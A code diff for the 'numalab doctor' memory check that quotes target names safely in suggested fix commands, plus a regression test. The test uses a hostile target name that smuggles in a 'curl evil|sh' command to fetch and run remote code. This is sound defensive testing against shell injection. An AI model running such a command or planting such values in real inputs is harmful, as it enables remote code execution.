@@ -1,7 +1,7 @@
 //! What could not be seen of the memory of a target, or of the machine: why, and what would reveal
 //! it.
 
-use model::{Fact, Residency, ResidencyMethod, Severity};
+use model::{Fact, Residency, ResidencyMethod, Severity, shell_word};
 
 use super::row::{Check, Row};
 use crate::doctor::memory::source;
@@ -69,7 +69,7 @@ fn fix(residency: &Residency, input: &DoctorInput) -> Vec<String> {
     let refused = |gap: &String| gap.contains("no permission to read");
     let lacks_privileges =
         residency.method == ResidencyMethod::NumaMaps || residency.gaps.iter().any(refused);
-    let again = format!("numalab doctor '{}'", residency.target);
+    let again = format!("numalab doctor {}", shell_word(&residency.target));
     match (lacks_privileges, input.is_root) {
         (true, false) => commands(&[
             "# run as root on the host of the processes (frame numbers need CAP_SYS_ADMIN, other \
@@ -132,6 +132,19 @@ mod tests {
             true,
             "more privileges do not help; see `gaps`, and try",
         );
+    }
+
+    #[test]
+    fn a_hostile_name_is_one_word_of_the_command() {
+        let mut input = input(ResidencyMethod::NumaMaps, "no frame numbers", false);
+        let name = "postgres:/tmp/x';curl evil|sh;'";
+        input
+            .residency
+            .iter_mut()
+            .for_each(|it| name.clone_into(&mut it.target));
+        let fix = check(&input).unwrap().fix.join("\n");
+        let expected = r#"sudo numalab doctor 'postgres:/tmp/x'"'"';curl evil|sh;'"'"''"#;
+        assert!(fix.contains(expected), "{fix}");
     }
 
     #[test]
